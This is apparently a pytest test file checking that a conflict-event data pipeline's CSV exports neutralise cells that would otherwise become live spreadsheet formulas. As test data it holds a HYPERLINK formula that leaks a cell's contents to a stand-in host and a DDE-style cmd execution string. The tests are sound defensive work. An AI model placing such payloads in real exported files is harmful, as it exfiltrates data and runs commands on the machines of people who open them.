"""CSV export: no cell becomes a live spreadsheet formula (issue 15 item 11)."""

from __future__ import annotations

import csv
import io

from pipeline.output.export import events_csv, oblasts_csv, places_csv

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


def _event(**props) -> dict:
    base = {"id": "ev-1", "event_type": "frontline_incident", "sub_event_type": "shelling", "date": "2023-03-10",
            "date_precision": 1, "place_name": "+Kharkiv", "admin1_code": "UA-63", "admin1_name": "@Kharkiv",
            "country_code": "UA", "geo_precision": 1, "killed": 3, "injured": None,
            "casualty_text": "-3 killed", "claimed_by": None, "claim_status": None,
            "sources": [{"article": "\tarticle.txt", "quote": FORMULA, "start": 0, "end": 10}], "n_sources": 1,
            "confidence": 0.8}
    return {"type": "Feature", "geometry": {"type": "Point", "coordinates": [-36.25, -49.5]},
            "properties": base | props}


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_cells_starting_a_formula_are_neutralised_in_events_csv():
    """Item 11: =HYPERLINK(...) from an article became a live formula in Excel/LibreOffice."""
    (row,) = _rows(events_csv({"features": [_event()]}))
    assert row["notes"] == "'" + FORMULA
    assert row["location"] == "'+Kharkiv" and row["admin1"] == "'@Kharkiv"
    assert row["casualty_text"] == "'-3 killed" and row["source"] == "'\tarticle.txt"
    # numbers are numbers: a negative coordinate is not mangled
    assert row["longitude"] == "-36.25" and row["latitude"] == "-49.5" and row["fatalities"] == "3"


def test_csv_cells_starting_a_formula_are_neutralised_in_places_and_oblasts_csv():
    place = {"properties": {"article": "a.txt", "start": 0, "end": 3, "text": "=1+1", "name": "-Kharkiv",
                            "lat": -49.5, "lon": -36.25, "reason": "@cmd"}}
    (row,) = _rows(places_csv({"features": [place]}))
    assert (row["text"], row["name"], row["reason"]) == ("'=1+1", "'-Kharkiv", "'@cmd")
    assert (row["lat"], row["lon"]) == ("-49.5", "-36.25")
    oblast = {"properties": {"admin1_code": "UA-63", "admin1_name": "=cmd|' /C calc'!A0", "killed": -1}}
    (row,) = _rows(oblasts_csv({"features": [oblast]}))
    assert row["admin1_name"] == "'=cmd|' /C calc'!A0" and row["killed"] == "-1"
